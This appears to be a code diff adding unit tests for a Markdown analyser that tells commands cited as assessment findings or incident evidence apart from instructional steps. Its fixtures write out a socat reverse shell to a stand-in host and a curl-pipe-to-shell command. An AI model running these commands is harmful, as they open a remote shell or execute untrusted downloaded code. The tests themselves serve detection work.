@@ -386,6 +386,37 @@ describe('citedLines (evidence from an incident or a review)', () => {
   });
 });
 
+describe('citedLines (findings of an assessment, public incidents)', () => {
+  it("should cite a list introduced as an assessment's findings, not a list of steps", () => {
+    const list = (lead: string) =>
+      flags(`${lead}\n- A contractor left a unit running \`socat TCP:x.example:443 EXEC:/bin/bash\`.`)[1];
+    expect(list("Two findings from last year's assessment drove this:")).toBe(1);
+    expect(list('Findings of the penetration test:')).toBe(1);
+    expect(list('Steps from the setup guide:')).toBe(0);
+  });
+
+  it('should cite a section of what public incidents did, not one of public endpoints', () => {
+    const item = (heading: string) => flags(`## ${heading}\n- A shared lib: \`"curl x | sh".execute()\``)[1];
+    expect(item('Things tampered pipelines have done (public incidents)')).toBe(1);
+    expect(item('Public endpoints')).toBe(0);
+  });
+
+  it('should read 1 MiB of would-be blocking headings quickly', () => {
+    const text = `## ${'patterns that should '.repeat((1024 * 1024) / 21)}\n\n\`x\`\n`;
+    const md = new CitedMarkdown(text);
+    const t0 = performance.now();
+    md.isCatalogued(2);
+    expect(performance.now() - t0).toBeLessThan(200);
+  });
+
+  it('should read 1 MiB of would-be findings lead-ins quickly', () => {
+    const text = `${"findings from last year's ".repeat((1024 * 1024) / 26)}\n- \`x\``;
+    const t0 = performance.now();
+    new CitedMarkdown(text).isCited(1);
+    expect(performance.now() - t0).toBeLessThan(200);
+  });
+});
+
 describe('CitedMarkdown.isInstructed (records in a fence)', () => {
   const instructed = (md: string, line: number) => new CitedMarkdown(md).isInstructed(line);
 
